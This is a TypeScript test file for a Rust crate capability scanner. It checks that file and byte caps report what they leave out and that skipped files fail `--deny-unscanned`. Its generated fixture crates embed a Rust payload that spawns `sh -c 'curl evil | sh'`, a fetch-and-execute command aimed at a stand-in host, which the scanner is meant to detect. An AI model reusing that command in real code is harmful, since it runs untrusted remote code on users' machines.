// No silent caps (issue 12, part C): every per-crate limit that leaves something out says so under
// `unanalyzed`; files past the full-analysis cap still get the token-level pass; what no analysis saw
// ("skipped") fails `check --deny-unscanned`. Hostile crates are generated in a tmp dir at test time.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCheck } from '../src/commands/check.js';
import { listPackage, MAX_FILES_PER_CRATE, MAX_TOKEN_BYTES_PER_CRATE } from '../src/scan/crate-scan.js';
import { contentHash } from '../src/scan/result-cache.js';
import { defaultScanOptions } from '../src/options.js';
import { render } from '../src/report/index.js';
import { scanCrateDir } from '../src/scan/session.js';
import type { CrateReport } from '../src/types.js';

const PAYLOAD = 'pub fn run() {\n    std::process::Command::new("sh").arg("-c").arg("curl evil | sh").spawn().ok();\n}\n';
const TOKENS = 'files-per-crate-cap (5000): analysed as tokens';

let tmp: string;

/**
 * A crate whose lib.rs declares `mods` modules m0…m{mods-1}, one file each; the last holds the payload.
 * `big`: files past the cap, each `bigSize` bytes of comment, declared after the small ones (before the last).
 */
function hostileCrate(dir: string, name: string, mods: number, big = 0, bigSize = 0): void {
  mkdirSync(join(dir, 'src'), { recursive: true });
  writeFileSync(join(dir, 'Cargo.toml'), `[package]\nname = "${name}"\nversion = "0.1.0"\nedition = "2021"\n`);
  const decls: string[] = [];
  for (let i = 0; i < mods - 1; i++) {
    decls.push(`mod m${i};`);
    writeFileSync(join(dir, 'src', `m${i}.rs`), `pub fn f${i}() {}\n`);
  }
  for (let i = 0; i < big; i++) {
    decls.push(`mod big${i};`);
    const head = `// filler ${i}\n//`;
    writeFileSync(join(dir, 'src', `big${i}.rs`), head + 'x'.repeat(bigSize - head.length - 1) + '\n');
  }
  decls.push(`mod m${mods - 1};`);
  writeFileSync(join(dir, 'src', `m${mods - 1}.rs`), `// the payload sits in the last module\n${PAYLOAD}`);
  writeFileSync(join(dir, 'src', 'lib.rs'), decls.join('\n') + '\n');
}

const opts = () => defaultScanOptions({ manifestPath: '.', cache: false, offline: true });

async function scanOne(dir: string): Promise<CrateReport> {
  const r = await scanCrateDir(dir, opts());
  return r.crates[0]!;
}

const BIG = 7.5 * 1024 * 1024;

beforeAll(() => {
  tmp = mkdtempSync(join(tmpdir(), 'cap-scan-caps-'));
  // shared by the crate scans and the check workspaces (generated once: ~5,000 files each)
  hostileCrate(join(tmp, 'many'), 'many', MAX_FILES_PER_CRATE + 1);
  // 5,000 full analyses (lib.rs + 4,999), then 9 files of 7.5 MiB: 8 fit the token budget, the 9th does not
  hostileCrate(join(tmp, 'bytes'), 'bytes', MAX_FILES_PER_CRATE, 9, BIG);
}, 60_000);
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

describe('files-per-crate cap (5,001 module files)', () => {
  let crate: CrateReport;
  beforeAll(async () => {
    crate = await scanOne(join(tmp, 'many'));
  }, 60_000);

  it('the payload in the last module file is still reported (token-level pass), with its exact rule, file and line', () => {
    expect(crate.findings.filter((f) => f.file === 'src/m5000.rs')).toEqual([
      {
        capability: 'process',
        kind: 'process.spawn',
        phase: 'runtime',
        rule: 'std-process-spawn',
        file: 'src/m5000.rs',
        line: 3,
        column: 5,
        evidence: 'std::process::Command::new',
      },
    ]);
    expect(crate.capabilities).toEqual(['process']);
  });

  it('every file past the cap is listed as analysed as tokens; the magic-bytes cap is listed too', () => {
    // lib.rs + m0…m4998 fill the 5,000 full analyses; m4999 and m5000 get the token pass
    expect(crate.unanalyzed).toEqual([
      { file: 'src/m4999.rs', line: 1, reason: TOKENS },
      { file: 'src/m5000.rs', line: 1, reason: TOKENS },
      // 5,003 files (Cargo.toml, lib.rs, 5,001 modules); sorted, the 5,001st is src/m997.rs (then m998, m999)
      { file: 'src/m997.rs', line: 1, reason: 'magic-bytes-cap (5000): 3 files from this one on not opened to look for binaries (checked by extension only)' },
    ]);
  });

  it('the human report counts the unanalyzed parts, per crate and in the summary line', () => {
    const text = render('human', { command: 'scan', result: { schemaVersion: 1, tool: { name: 'cap-scan', version: '0' }, crates: [crate], unscanned: [] }, project: null, verbose: false, color: false, workspaceRoot: null });
    expect(text.split('\n')).toEqual([
      'Capabilities, most dangerous first:',
      'process (runtime, 1 crate)',
      '  many',
      '',
      'many 0.1.0  runtime: process  build: -',
      '  unanalyzed: 3 parts (-v lists them)',
      '',
      '1 crate, 1 with capabilities, 0 unscanned, 1 with unanalyzed parts',
      '',
    ]);
  });
});

describe('token-pass byte budget: past it files are skipped, counted in one entry', () => {
  it('a file over the 64 MiB budget is skipped (named, counted); smaller later files still get the token pass', async () => {
    const size = BIG;
    expect([8 * size <= MAX_TOKEN_BYTES_PER_CRATE, 9 * size <= MAX_TOKEN_BYTES_PER_CRATE]).toEqual([true, false]);
    const crate = await scanOne(join(tmp, 'bytes'));
    expect(crate.findings.filter((f) => f.file === 'src/m4999.rs').map((f) => [f.rule, f.file, f.line])).toEqual([['std-process-spawn', 'src/m4999.rs', 3]]);
    expect(crate.unanalyzed.filter((u) => !u.reason.startsWith('magic-bytes-cap'))).toEqual([
      ...[0, 1, 2, 3, 4, 5, 6, 7].map((i) => ({ file: `src/big${i}.rs`, line: 1, reason: TOKENS })),
      {
        file: 'src/big8.rs',
        line: 1,
        reason: `skipped: 1 file (${size} bytes) not analysed, past the files-per-crate cap (5000) and the token-pass budget (50000 files, 67108864 bytes)`,
      },
      { file: 'src/m4999.rs', line: 1, reason: TOKENS },
    ]);
  }, 60_000);
});

describe('package listing is bounded and deterministic', () => {
  it('stops at the entry cap, depth-first in name order, and names the first entry left out', async () => {
    const d = join(tmp, 'listing');
    mkdirSync(join(d, 'a'), { recursive: true });
    mkdirSync(join(d, 'target'), { recursive: true });
    for (const f of ['a/1', 'a/2', 'a-b', 'b', 'c', 'target/x']) writeFileSync(join(d, f), '');
    expect(await listPackage(d, 4)).toEqual({ files: ['a-b', 'a/1', 'a/2'], truncatedAt: 'b', unreadable: [] });
    expect(await listPackage(d)).toEqual({ files: ['a-b', 'a/1', 'a/2', 'b', 'c'], truncatedAt: null, unreadable: [] });
  });
});

describe('content hash past its entry cap', () => {
  it('is null (the crate is not cached): a change past the cap would otherwise serve a stale result', async () => {
    const d = join(tmp, 'hash');
    mkdirSync(d, { recursive: true });
    for (const f of ['a.rs', 'b.rs', 'c.rs']) writeFileSync(join(d, f), 'fn main() {}\n');
    expect(await contentHash(d, 3)).toMatch(/^[0-9a-f]{64}$/);
    writeFileSync(join(d, 'd.rs'), 'fn main() {}\n');
    expect(await contentHash(d, 3)).toBeNull();
  });
});

describe('check --deny-unscanned and skipped parts', () => {
  /** A workspace `app` depending on the generated path crate `dep` (outside the workspace: not a member). */
  function workspace(name: string, dep: string): string {
    const root = join(tmp, name);
    const ws = join(root, 'ws');
    mkdirSync(join(ws, 'src'), { recursive: true });
    writeFileSync(join(ws, 'src', 'lib.rs'), 'pub fn app() {}\n');
    writeFileSync(
      join(ws, 'Cargo.toml'),
      `[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\n${dep} = { path = "../../${dep}" }\n\n[package.metadata.cap-scan.allow]\n${dep} = ["process"]\n`,
    );
    writeFileSync(join(ws, 'Cargo.lock'), `version = 3\n\n[[package]]\nname = "app"\nversion = "0.1.0"\ndependencies = [\n "${dep}",\n]\n\n[[package]]\nname = "${dep}"\nversion = "0.1.0"\n`);
    return join(ws, 'Cargo.toml');
  }
  const check = (manifestPath: string, denyUnscanned: boolean) =>
    runCheck({ ...defaultScanOptions({ manifestPath, cache: false, offline: true }), format: 'human', verbose: false, color: false, strict: false, denyIndicators: false, denyUnscanned });

  it('a dependency with skipped files fails with --deny-unscanned, naming the crate and why; without it, it is listed', async () => {
    const manifest = workspace('ws-skipped', 'bytes');
    const reason = `skipped: 1 file (7864320 bytes) not analysed, past the files-per-crate cap (5000) and the token-pass budget (50000 files, 67108864 bytes)`;
    const denied = await check(manifest, true);
    expect(denied.exitCode).toBe(1);
    expect(denied.text.split('\n')).toEqual([
      'All dependencies are allowed by Cargo.toml.',
      '',
      'Not allowed: parts skipped, not analysed (deny-unscanned) (1):',
      `  bytes 0.1.0  src/big8.rs:1  ${reason}`,
      '',
      'FAILED: 1 crate checked, 0 not allowed, 0 unused entries, 1 crate with skipped parts',
      '',
    ]);
    const warned = await check(manifest, false);
    expect(warned.exitCode).toBe(0);
    expect(warned.text).toContain(`Not checked in full (parts skipped, not analysed) (1):\n  bytes 0.1.0  src/big8.rs:1  ${reason}\n`);
    expect(warned.text).toContain('ok: 1 crate checked, 0 not allowed, 0 unused entries, 1 crate with skipped parts\n');
  }, 60_000);

  it('a dependency whose files past the cap were only analysed as tokens passes --deny-unscanned (its findings are reported and checked)', async () => {
    const manifest = workspace('ws-tokens', 'many');
    const ok = await check(manifest, true);
    expect(ok.text).toBe('All dependencies are allowed by Cargo.toml.\n\nok: 1 crate checked, 0 not allowed, 0 unused entries\n');
    expect(ok.exitCode).toBe(0);
  }, 60_000);
});
